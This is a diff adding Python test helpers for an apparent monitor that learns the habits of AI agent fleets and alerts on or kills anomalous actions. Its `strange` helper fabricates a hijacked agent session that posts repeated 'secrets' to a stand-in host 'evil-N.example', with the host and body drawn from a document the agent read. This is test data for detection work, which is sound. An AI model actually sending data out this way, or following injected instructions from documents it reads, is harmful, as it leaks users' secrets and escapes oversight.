@@ -1,0 +1,89 @@
+"""Seeded streams of actions with habits simple enough that models calibrate within a few hundred of them."""
+
+from __future__ import annotations
+
+import random
+from collections.abc import Sequence
+
+from monitor.action import Action
+from monitor.config import Config, parse_config
+from monitor.observation import Observation, Observer
+from monitor.pipeline import Outcomes, Pipeline
+
+SECRET = bytes(range(32))
+START_S = 1_795_000_000.0
+PACE_S = 10.0
+TOOLS = ("open", "read", "search", "reply")
+MIN_ACTIONS = 40
+FLEET_MIN_ACTIONS = 200
+
+OBSERVER = Observer(SECRET, store_args=False)
+
+
+def config(response: str = "", *, detection: str = "", more: str = "") -> Config:
+    """A configuration whose models are ready soon; the arguments are lines of TOML for their sections."""
+    return parse_config(
+        f"[detection]\nmin_actions = {MIN_ACTIONS}\nfleet_min_actions = {FLEET_MIN_ACTIONS}\n{detection}\n"
+        # Generous budgets: one action in a hundred may alert, so that a threshold is reached within a short stream.
+        f"[response]\nfalse_alerts_per_agent_day = 20.0\nfalse_kills_per_agent_day = 20.0\n{response}\n{more}\n"
+    )
+
+
+ENFORCE = 'mode = "enforce"\n'
+
+
+def habit(number: int, agents: int = 4, *, version: str | None = None) -> Action:
+    """The `number`-th action of a fleet in which every agent does the same four things in turn."""
+    rng = random.Random(number)
+    agent, turn = number % agents, number // agents
+    return Action(
+        id=f"a-{number}",
+        ts=START_S + turn * PACE_S + agent * 0.1 + rng.random(),
+        agent_id=f"agent-{agent}",
+        agent_version=version,
+        session_id=f"s-{agent}-{turn // 40}",
+        tool=TOOLS[turn % len(TOOLS)],
+        args={"customer": f"c-{rng.randint(1, 6)}", "note": "x" * rng.randint(10, 30)},
+        provenance={"customer": "user"},
+    )
+
+
+def strange(
+    number: int, agent: str = "agent-0", *, after: int = 0, agents: int = 4, version: str | None = None
+) -> Action:
+    """Something that no agent ever did, placed in time after the action `after` of the stream."""
+    return Action(
+        id=f"strange-{number}",
+        ts=START_S + after // agents * PACE_S + 1 + number * PACE_S,
+        agent_id=agent,
+        agent_version=version,
+        session_id="s-hijacked",
+        tool="http_post",
+        args={"host": f"evil-{number}.example", "body": "secrets " * 4000},
+        provenance={"host": "tool:read_document", "body": "tool:read"},
+        on_behalf_of=("alice@example.com",),
+    )
+
+
+def observed(*actions: Action) -> list[Observation]:
+    """The actions as the log has them."""
+    return [OBSERVER.observe(action) for action in actions]
+
+
+def habits(count: int, first: int = 0, agents: int = 4, *, version: str | None = None) -> list[Observation]:
+    """`count` unremarkable observations from the `first` on."""
+    return observed(*(habit(number, agents, version=version) for number in range(first, first + count)))
+
+
+WARM = 600
+"""So many habits calibrate four agents under `config`."""
+
+
+def warm(pipeline: Pipeline, count: int = WARM, agents: int = 4) -> Outcomes:
+    """Feed a pipeline habits until its models are calibrated; at the clock `START_S`."""
+    return pipeline.step(habits(count, agents=agents), START_S, first_seq=1)
+
+
+def p_of(outcomes: Sequence[Outcomes]) -> list[str]:
+    """The p-values of several outcomes, bit for bit comparable (NaN equals NaN)."""
+    return [p.hex() for outcome in outcomes for p in outcome.p]
